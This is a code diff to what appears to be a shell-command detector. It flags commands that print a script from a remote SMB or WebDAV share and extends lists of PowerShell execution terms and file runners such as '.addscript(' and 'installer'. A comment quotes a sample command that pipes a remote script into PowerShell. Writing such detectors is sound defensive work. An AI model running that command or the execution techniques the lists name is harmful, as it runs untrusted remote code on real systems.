@@ -125,9 +125,30 @@ export function hasPowerShellFetchTerm(cmd: SimpleCommand): boolean {
 }
 
 /** The command's output (stdout / pipeline / value) is content fetched from the network. */
+/** Programs that print a file (`type \\198.51.100.7\s\p.ps1 | powershell -`). */
+const FILE_PRINTERS = new Set(['type', 'cat', 'get-content', 'gc', 'more']);
+
+/**
+ * A share on an IP literal or reached over WebDAV (`\\198.51.100.7\s\x`, `\\host@SSL\…`,
+ * `\\host\DavWWWRoot\…`): a remote server, not a file server of the organisation's own.
+ */
+const REMOTE_SHARE = /^["']?\\\\(?:[0-9]{1,3}(?:\.[0-9]{1,3}){3}\\|[a-z0-9_.-]+@(?:ssl|[0-9]+)\b|[a-z0-9_.-]+\\davwwwroot\\)/;
+
+/** Printing a file on a remote share: its content comes from the network like a download's. */
+function readsRemoteShare(cmd: SimpleCommand): boolean {
+  if (!FILE_PRINTERS.has(cmd.name)) return false;
+  for (let k = 1; k < cmd.words.length; k++) {
+    const l = (cmd.words[k] as Word).lower;
+    if (l.length > 4 && (l.charCodeAt(0) === 0x5c || l.charCodeAt(1) === 0x5c) && REMOTE_SHARE.test(l) && !l.startsWith('\\\\127.'))
+      return true;
+  }
+  return false;
+}
+
 export function fetchesToOutput(cmd: SimpleCommand): boolean {
   const name = cmd.name;
   const words = cmd.words;
+  if (readsRemoteShare(cmd)) return true;
   if (cmd.shell === 'powershell' && name === 'resolve-dnsname') return words.some((w) => w.lower === 'txt');
   if (cmd.shell === 'powershell' && name === 'nslookup') return words.some((w) => /(^|[=-])txt$/i.test(w.value));
   if (cmd.shell === 'powershell') {
@@ -195,6 +216,7 @@ function hasStdoutOutput(words: readonly Word[], options: readonly string[]): bo
 
 /** Is this command a network download of any kind (to output, variable or file)? */
 export function isFetch(cmd: SimpleCommand): boolean {
+  if (readsRemoteShare(cmd)) return true;
   if (cmd.shell === 'powershell') {
     if (isPowerShellFetchCommand(cmd)) return true;
     if ((cmd.name === 'curl' || cmd.name === 'wget') && cmd.words.some(isUrlWord)) return true;
@@ -524,6 +546,8 @@ export const POWERSHELL_EXEC_TERMS = [
   'scriptblock]::create',
   'newscriptblock(',
   'invokescript(',
+  // `[PowerShell]::Create().AddScript($text).Invoke()`: a runspace runs the text like `[ScriptBlock]::Create`.
+  '.addscript(',
   'assembly]::load(',
   'assembly]::loadfrom(',
   'assembly]::unsafeloadfrom(',
@@ -581,6 +605,8 @@ const FILE_RUNNERS = new Set([
   'source',
   '.',
   'msiexec',
+  // macOS `installer -pkg x.pkg -target /`: a package's scripts run as root.
+  'installer',
   'rundll32',
   'regsvr32',
   'mshta',
